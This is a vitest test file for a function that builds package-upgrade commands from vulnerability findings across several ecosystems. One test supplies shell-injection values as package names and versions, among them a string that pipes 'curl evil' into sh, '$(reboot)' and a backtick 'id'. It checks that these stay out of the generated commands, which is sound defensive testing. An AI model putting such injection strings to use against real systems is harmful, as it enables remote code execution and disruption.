import { expect, test } from 'vitest';
import { NO_REMEDIATION, remediationOf } from './remediation.ts';

test.each([
  ['deb', 'libssl3', '3.0.15-1~deb12u1', 'apt-get update && apt-get install --only-upgrade libssl3'],
  ['apk', 'busybox', '1.36.1-r6', 'apk upgrade busybox'],
  ['npm', '@scope/x', '1.2.3', 'npm install @scope/x@1.2.3'],
  ['pypi', 'requests', '2.32.0', "pip install 'requests>=2.32.0'"],
  ['golang', 'golang.org/x/net', '0.17.0', 'go get golang.org/x/net@v0.17.0'],
  ['maven', 'org.x:y', '1.1', 'Update org.x:y to 1.1 or later'],
])('%s', (type, name, fix, text) => {
  expect(remediationOf(type, name, fix)).toBe(text);
});

test('no fix, no remedy', () => expect(remediationOf('deb', 'zlib1g', undefined)).toBe(NO_REMEDIATION));

test.each(["x'; curl evil | sh; '", '$(reboot)', '-rf', 'a b', 'x`id`'])('%s never enters a command', (name) => {
  expect(remediationOf('npm', name, '1.0.0')).toBe(`Update ${name} to 1.0.0 or later`);
  expect(remediationOf('npm', 'lodash', name)).toBe(`Update lodash to ${name} or later`);
});

test('the text fits the wire', () => expect(remediationOf('npm', 'x'.repeat(5000), '1').length).toBe(1024));
